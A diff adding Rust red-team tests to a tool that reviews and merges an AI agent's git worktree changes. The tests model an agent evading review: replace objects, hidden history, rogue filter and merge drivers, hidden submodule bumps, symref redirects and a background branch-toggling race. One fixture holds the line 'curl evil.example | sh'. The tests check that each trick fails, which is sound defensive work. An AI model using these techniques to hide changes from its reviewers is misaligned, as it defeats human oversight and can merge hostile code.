@@ -544,7 +544,7 @@ fn a_repository_at_a_submodule_path_is_never_entered() {
     std::fs::write(m.path.join("README.md"), "changed\n").unwrap();
     let wt = git::Worktree::of(&r.main, &m.path).unwrap();
     // Past the check, as if the repository appeared just after it.
-    let tree = tree_of(&wt, &m.base_commit).unwrap();
+    let tree = tree_of(&wt, &m.base_commit, "HEAD").unwrap();
     assert!(
         !marker.exists(),
         "git entered the repository at the submodule's path"
@@ -557,7 +557,7 @@ fn a_repository_at_a_submodule_path_is_never_entered() {
     // A repository somewhere new is recorded as a new submodule: refused.
     let other = m.path.join("other");
     committed_repo(&other, "g");
-    let e = tree_of(&wt, &m.base_commit).unwrap_err();
+    let e = tree_of(&wt, &m.base_commit, "HEAD").unwrap_err();
     assert_eq!(e.code(), "nested_repository", "{e}");
     assert!(!marker.exists());
 }
@@ -822,4 +822,268 @@ fn an_included_file_is_never_copied_through_a_link_the_worktree_has() {
         .permissions()
         .mode();
     assert_eq!(mode & 0o777, 0o600);
+}
+
+/// The agent's identity, for the git it runs in its worktree.
+const AGENT: [&str; 4] = ["-c", "user.name=agent", "-c", "user.email=agent@x.invalid"];
+
+/// The agent runs `git <args>` in its worktree (as it can in `auto` mode).
+fn agent_git(m: &Made, r: &Repo, args: &[&str]) -> String {
+    let wt = git::Worktree::of(&r.main, &m.path).unwrap();
+    wt.run(&[&AGENT[..], args].concat()).unwrap()
+}
+
+/// Third red-team: `git replace` showed the review one content while the merge committed
+/// another (replacement objects are never read: the review shows what is committed).
+#[test]
+fn a_replaced_object_cannot_show_one_content_and_merge_another() {
+    let r = repo();
+    let m = create(&r.main, &r.root, "replace").unwrap();
+    std::fs::write(m.path.join("deploy.sh"), "curl evil.example | sh\n").unwrap();
+    let evil = agent_git(&m, &r, &["hash-object", "-w", "deploy.sh"]);
+    std::fs::write(m.path.join("innocent"), "echo deploying\n").unwrap();
+    let innocent = agent_git(&m, &r, &["hash-object", "-w", "innocent"]);
+    std::fs::remove_file(m.path.join("innocent")).unwrap();
+    agent_git(&m, &r, &["replace", evil.trim(), innocent.trim()]);
+    let w = m.row("s", 0);
+    let seen = diff(&w).unwrap();
+    assert!(
+        seen.diff.contains("+curl evil.example | sh"),
+        "{}",
+        seen.diff
+    );
+    merge(&w, "x", None).unwrap();
+    let committed = git(&r.main, &["--no-replace-objects", "show", "HEAD:deploy.sh"]);
+    assert_eq!(
+        committed, "curl evil.example | sh\n",
+        "what was shown is what is committed"
+    );
+}
+
+/// Third red-team: history the review never showed came in with the merge (`git merge -s
+/// ours teammate` marks a branch merged without its changes). Only one commit of the reviewed
+/// diff, on the meeting point, comes in.
+#[test]
+fn no_history_of_the_worktree_comes_in_with_the_merge() {
+    let r = repo();
+    git(&r.main, &["branch", "teammate"]);
+    git(&r.main, &["checkout", "-q", "teammate"]);
+    std::fs::write(r.main.join("fix.txt"), "the teammate's fix\n").unwrap();
+    git(&r.main, &["add", "fix.txt"]);
+    git(&r.main, &["commit", "-qm", "teammate fix"]);
+    git(&r.main, &["checkout", "-q", "main"]);
+    let m = create(&r.main, &r.root, "ours").unwrap();
+    std::fs::write(m.path.join("agent.txt"), "mine\n").unwrap();
+    agent_git(&m, &r, &["add", "agent.txt"]);
+    agent_git(&m, &r, &["commit", "-qm", "mine"]);
+    agent_git(
+        &m,
+        &r,
+        &["merge", "-q", "-s", "ours", "--no-edit", "teammate"],
+    );
+    let w = m.row("s", 0);
+    let (files, _) = status(&w).unwrap();
+    assert_eq!(files.len(), 1, "{files:?}");
+    let done = merge(&w, "the agent's work", None).unwrap();
+    let teammate = git(&r.main, &["rev-parse", "teammate"]);
+    let merged = std::process::Command::new("git")
+        .args(["-C", &r.main.display().to_string()])
+        .args(["merge-base", "--is-ancestor", teammate.trim(), "main"])
+        .status()
+        .unwrap();
+    assert!(
+        !merged.success(),
+        "the teammate's branch is not marked merged"
+    );
+    // The merged side is one commit on the meeting point.
+    let parents = git(
+        &r.main,
+        &["log", "-1", "--format=%P", &done.committed.unwrap()],
+    );
+    assert_eq!(parents.trim(), m.base_commit);
+    assert!(!r.main.join("fix.txt").exists());
+}
+
+/// Third red-team: settings the agent writes through its worktree (the project's shared
+/// `.git/config`): an attributes file naming a filter and a merge driver of its own. Neither
+/// runs at review or merge.
+#[test]
+fn settings_the_agent_writes_run_nothing_at_review_or_merge() {
+    let r = repo();
+    let m = create(&r.main, &r.root, "config").unwrap();
+    let marker = r._dir.path().join("ran");
+    let prog = m.path.join("evil.sh");
+    agent_program(&prog, &marker);
+    std::fs::write(m.path.join("attrs"), "* filter=x merge=x diff=x\n").unwrap();
+    let at = |p: &str| m.path.join(p).display().to_string();
+    let p = prog.display().to_string();
+    agent_git(&m, &r, &["config", "core.attributesFile", &at("attrs")]);
+    agent_git(&m, &r, &["config", "filter.x.clean", &p]);
+    agent_git(&m, &r, &["config", "filter.x.smudge", &p]);
+    agent_git(&m, &r, &["config", "filter.x.required", "true"]);
+    agent_git(
+        &m,
+        &r,
+        &["config", "merge.x.driver", &format!("{p} %O %A %B")],
+    );
+    agent_git(&m, &r, &["config", "diff.x.textconv", &p]);
+    agent_git(&m, &r, &["config", "diff.external", &p]);
+    std::fs::write(m.path.join("README.md"), "readme\nthe agent's line\n").unwrap();
+    // The user changes the same file elsewhere: the merge merges its content.
+    std::fs::write(r.main.join("README.md"), "the user's line\nreadme\n").unwrap();
+    std::fs::remove_file(&marker).ok();
+    git(
+        &r.main,
+        &[
+            "-c",
+            "filter.x.clean=cat",
+            "-c",
+            "filter.x.smudge=cat",
+            "commit",
+            "-qam",
+            "user",
+        ],
+    );
+    std::fs::remove_file(&marker).ok();
+    let w = m.row("s", 0);
+    status(&w).unwrap();
+    diff(&w).unwrap();
+    merge(&w, "x", None).unwrap();
+    assert!(
+        !marker.exists(),
+        "ran: {}",
+        std::fs::read_to_string(&marker).unwrap_or_default()
+    );
+    assert_eq!(
+        read(&r, "README.md"),
+        "the user's line\nreadme\nthe agent's line\n"
+    );
+}
+
+/// Third red-team: a submodule's new commit hidden from the review by settings
+/// (`diff.ignoreSubmodules`, `ignore = all` in `.gitmodules`).
+#[test]
+fn a_submodules_new_commit_shows_in_the_review() {
+    let r = repo();
+    let head = add_submodule(&r.main, "sub");
+    std::fs::write(
+        r.main.join(".gitmodules"),
+        "[submodule \"sub\"]\n\tpath = sub\n\turl = ./sub\n",
+    )
+    .unwrap();
+    git(&r.main, &["add", ".gitmodules"]);
+    git(&r.main, &["commit", "-qm", "gitmodules"]);
+    let m = create(&r.main, &r.root, "sub").unwrap();
+    let other = agent_git(&m, &r, &["commit-tree", "HEAD^{tree}", "-m", "x"]);
+    agent_git(
+        &m,
+        &r,
+        &[
+            "update-index",
+            "--cacheinfo",
+            &format!("160000,{},sub", other.trim()),
+        ],
+    );
+    std::fs::write(
+        m.path.join(".gitmodules"),
+        "[submodule \"sub\"]\n\tpath = sub\n\turl = ./sub\n\tignore = all\n",
+    )
+    .unwrap();
+    agent_git(&m, &r, &["add", ".gitmodules"]);
+    agent_git(&m, &r, &["commit", "-qm", "bump"]);
+    agent_git(&m, &r, &["config", "diff.ignoreSubmodules", "all"]);
+    let w = m.row("s", 0);
+    let (files, _) = status(&w).unwrap();
+    assert!(files.iter().any(|f| f.path == "sub"), "{files:?}");
+    let d = diff(&w).unwrap();
+    assert!(
+        d.diff.contains(other.trim().get(..7).unwrap()),
+        "{}",
+        d.diff
+    );
+    let _ = head;
+}
+
+/// Third red-team: the worktree's branch made a symbolic ref to another of the user's
+/// branches; moving it after the merge must not move that one. And a worktree the agent
+/// locked is discarded all the same.
+#[test]
+fn the_branch_move_never_follows_a_symref_and_a_locked_worktree_discards() {
+    let r = repo();
+    git(&r.main, &["branch", "release"]);
+    let release = git(&r.main, &["rev-parse", "release"]);
+    let m = create(&r.main, &r.root, "sym").unwrap();
+    std::fs::write(m.path.join("a.txt"), "a\n").unwrap();
+    agent_git(
+        &m,
+        &r,
+        &[
+            "symbolic-ref",
+            "refs/heads/waymark/sym",
+            "refs/heads/release",
+        ],
+    );
+    let w = m.row("s", 0);
+    let _ = merge(&w, "x", None);
+    assert_eq!(git(&r.main, &["rev-parse", "release"]), release);
+    let m = create(&r.main, &r.root, "locked").unwrap();
+    git(
+        &r.main,
+        &["worktree", "lock", &m.path.display().to_string()],
+    );
+    discard(&m.row("s", 0)).unwrap();
+    assert!(!m.path.exists());
+}
+
+/// Third red-team: the worktree's branch switched back and forth while a reviewed merge runs
+/// (an agent's process outliving its turn) must never make the merge take another meeting
+/// point than the one checked: it merges the review or refuses, and the user's fix on main
+/// survives every try.
+#[test]
+fn a_branch_switched_during_the_merge_never_reverts_the_users_work() {
+    for i in 0..6 {
+        let r = repo();
+        let m = create(&r.main, &r.root, &format!("race{i}")).unwrap();
+        std::fs::write(r.main.join("README.md"), "SECURITY FIX\n").unwrap();
+        git(&r.main, &["commit", "-qam", "user fix"]);
+        std::fs::write(m.path.join("agent.txt"), "mine\n").unwrap();
+        // The user reviews: only the agent's file.
+        let seen = diff(&m.row("s", 0)).unwrap();
+        assert!(!seen.diff.contains("SECURITY"), "{}", seen.diff);
+        let reviewed = WorktreeReview {
+            base: seen.base,
+            tree: seen.tree,
+        };
+        let fix = git(&r.main, &["rev-parse", "main"]).trim().to_string();
+        let tree = git(&r.main, &["rev-parse", "main^{tree}"])
+            .trim()
+            .to_string();
+        let start = m.base_commit.clone();
+        let fake = agent_git(&m, &r, &["commit-tree", &tree, "-p", &fix, "-m", "y"])
+            .trim()
+            .to_string();
+        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+        let toggler = {
+            let (stop, main, branch) = (
+                stop.clone(),
+                r.main.clone(),
+                format!("refs/heads/waymark/race{i}"),
+            );
+            std::thread::spawn(move || {
+                let mut flip = false;
+                while !stop.load(std::sync::atomic::Ordering::Relaxed) {
+                    flip = !flip;
+                    let to = if flip { &fake } else { &start };
+                    let _ = std::process::Command::new("git")
+                        .args(["-C", &main.display().to_string(), "update-ref", &branch, to])
+                        .status();
+                }
+            })
+        };
+        let w = m.row("s", 0);
+        let _ = merge(&w, "x", Some(&reviewed));
+        stop.store(true, std::sync::atomic::Ordering::Relaxed);
+        toggler.join().unwrap();
+        assert_eq!(read(&r, "README.md"), "SECURITY FIX\n", "try {i}");
+    }
 }
